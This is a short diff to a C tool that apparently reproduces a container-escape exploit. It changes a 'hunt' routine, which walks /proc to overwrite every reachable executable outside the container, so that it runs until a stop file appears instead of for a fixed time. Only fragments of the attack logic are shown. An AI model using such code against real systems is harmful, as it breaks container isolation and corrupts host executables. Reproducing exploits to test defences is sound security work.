@@ -144,16 +144,15 @@ static void swap(const char *one, const char *other, double seconds)
 }
 
 /* Overwrites every executable that is not the container's own and that can be reached
- * through /proc. A descriptor is kept and tried again, as the published exploit does. */
-static void hunt(double seconds)
+ * through /proc, until the file `stop` is there. A descriptor is kept and tried again, as the published exploit does. */
+static void hunt(const char *stop)
 {
     struct stat own, busybox;
     stat("/proc/self/exe", &own);
     stat("/bin/busybox", &busybox);
-    double end = now() + seconds;
     long seen = 0, written = 0;
     int kept[256], count = 0;
-    while (now() < end) {
+    while (access(stop, F_OK)) {
         DIR *proc = opendir("/proc");
         for (struct dirent *entry; proc && (entry = readdir(proc));) {
             if (entry->d_name[0] < '0' || entry->d_name[0] > '9')
@@ -279,7 +278,7 @@ int main(int count, char **words)
     else if (!strcmp(words[1], "swap") && count == 5)
         swap(words[2], words[3], atof(words[4]));
     else if (!strcmp(words[1], "hunt") && count == 3)
-        hunt(atof(words[2]));
+        hunt(words[2]);
     else if (!strcmp(words[1], "unseal") && count == 4)
         unseal(words[2], words[3]);
     else if (!strcmp(words[1], "overwrite") && count == 3)
